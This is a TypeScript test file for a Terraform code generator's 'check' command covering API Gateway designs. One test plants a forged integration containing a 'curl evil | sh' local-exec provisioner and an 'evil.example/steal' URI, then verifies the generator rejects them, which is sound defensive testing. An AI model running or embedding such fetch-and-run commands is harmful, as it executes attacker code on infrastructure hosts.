/** What Terraform would refuse in the generated folder makes `check` fail. */
import { describe, expect, it } from 'vitest';
import { indexOf, type Design } from '../model/design/design.ts';
import { readDesign } from '../model/document/read-document.ts';
import { fileText, generateFiles } from '../codegen/files.ts';
import { printedNames } from '../codegen/terraform/names.ts';
import { fingerprintOf } from '../codegen/terraform/source-text.ts';
import { run } from './run.ts';

const document = {
  format: 'gatewright',
  version: 1,
  name: 'orders',
  apis: [{ key: 'a1', name: 'orders', protocol: 'HTTP', attributes: { name: 'orders-api' } }],
  integrations: [
    {
      key: 'i1',
      name: 'r',
      variant: 'http-url',
      attributes: { api_id: { ref: 'a1' }, integration_uri: 'https://example.com', integration_method: 'GET' },
    },
  ],
  routes: [
    {
      key: 'r1',
      name: 'root',
      variant: 'http',
      attributes: { api_id: { ref: 'a1' }, route_key: 'GET /', target: { ref: 'i1' } },
    },
  ],
  stages: [
    {
      key: 's1',
      name: 'live',
      variant: 'http',
      attributes: { api_id: { ref: 'a1' }, stage_name: '$default', auto_deploy: true },
    },
  ],
};

async function checked(input: object) {
  let out = '';
  const code = await run(['check', 'a.json', '--json', '--no-review'], {
    readFile: async () => new TextEncoder().encode(JSON.stringify(input)),
    listFolder: async () => undefined,
    readInput: async () => new Uint8Array(),
    writeFile: async () => {},
    replaceFiles: async () => {},
    writeFolder: async () => ({ ok: true, removed: [] }),
    isSameFile: async () => false,
    out: (text) => {
      out += text;
    },
    err: () => {},
  });
  const found = JSON.parse(out) as readonly {
    rule: string;
    generated?: { readonly file: string; readonly line: number };
    severity: string;
    message: string;
  }[];
  return { code, found: found.filter(({ severity }) => severity !== 'hint') };
}

const kept = (...parts: readonly object[]) => ({ ...document, kept: parts });

describe('check', () => {
  it('accepts the design that the others are made of', async () => {
    expect(await checked(document)).toEqual({ code: 0, found: [] });
  });

  it.each<[string, object, rule: string, place: readonly [file: string, line: number]]>([
    [
      'a comment that is not closed',
      kept({ file: 'imports.tf', text: '/* open' }),
      'kept-text-readable',
      ['imports.tf', 1],
    ],
    [
      'a comment around printed blocks',
      kept({ file: 'main.tf', text: '/* open' }, { file: 'main.tf', ref: 'a1' }, { file: 'main.tf', text: '*/' }),
      'kept-text-readable',
      ['main.tf', 1],
    ],
    [
      'text behind printed blocks, by its line in the file',
      kept({ file: 'main.tf', ref: 'a1' }, { file: 'main.tf', text: 'locals {\n  a = \n}' }),
      'kept-text-readable',
      ['main.tf', 16],
    ],
    [
      'moves to one address',
      { ...document, moves: ['x', 'x2'].map((from) => ({ type: 'awscc_apigatewayv2_api', from, to: 'orders' })) },
      'moves-unambiguous',
      ['moved.tf', 6],
    ],
    [
      'moves in a circle',
      {
        ...document,
        moves: [
          ['x', 'y'],
          ['y', 'x'],
        ].map(([from, to]) => ({ type: 'awscc_apigatewayv2_api', from, to })),
      },
      'moves-end',
      ['moved.tf', 6],
    ],
  ])('fails on %s', async (_, input, rule, [file, line]) => {
    const { code, found } = await checked(input);
    expect(code).toBe(1);
    expect(found[0]).toMatchObject({ rule, generated: { file, line }, severity: 'error' });
  });

  it('names each place that refers to what is gone', async () => {
    const text =
      'output "a" {\n  value = aws_apigatewayv2_api.orders.id\n}\n\noutput "b" {\n  value = aws_apigatewayv2_api.orders.arn\n}';
    const { code, found } = await checked(kept({ file: 'outputs.tf', text }));
    expect(code).toBe(1);
    expect(found.map(({ rule, generated }) => [rule, generated?.line])).toEqual([
      ['kept-address-known', expect.any(Number)],
      ['kept-address-known', expect.any(Number)],
    ]);
    expect((found[1]?.generated?.line ?? 0) - (found[0]?.generated?.line ?? 0)).toBe(4);
  });

  it('says that forged source text is not used, and main.tf says what the form says', async () => {
    const read = readDesign(document);
    if (!read.ok) throw new Error(read.message);
    const integration = read.design.objects.find(({ key }) => key === 'i1');
    if (!integration) throw new Error('There is no i1');
    const text = `resource "awscc_apigatewayv2_integration" "r" {
  api_id                 = awscc_apigatewayv2_api.orders.api_id
  integration_type       = "HTTP_PROXY"
  integration_uri        = "https://evil.example/steal"
  integration_method     = "GET"
  payload_format_version = "1.0"
  provisioner "local-exec" {
    command = "curl evil | sh"
  }
}`;
    const written = { text, says: fingerprintOf(integration, printedNames(read.design)) };
    const forged = { ...document, integrations: [{ ...document.integrations[0], written }] };
    const { code, found } = await checked(forged);
    expect({ code, found }).toMatchObject({
      code: 0,
      found: [{ rule: 'source-text-agrees', message: expect.stringContaining('integration_uri, provisioner') }],
    });
    const opened = readDesign(forged);
    const design: Design | undefined = opened.ok ? opened.design : undefined;
    const main = design && generateFiles(design).find(({ path }) => path === 'main.tf');
    expect(main && fileText(main)).toContain('"https://example.com"');
    expect(main && fileText(main)).not.toMatch(/evil|provisioner/);
    expect(design && indexOf(design).byKey.get('i1')?.attributes['integration_uri']).toBe('https://example.com');
  });
});
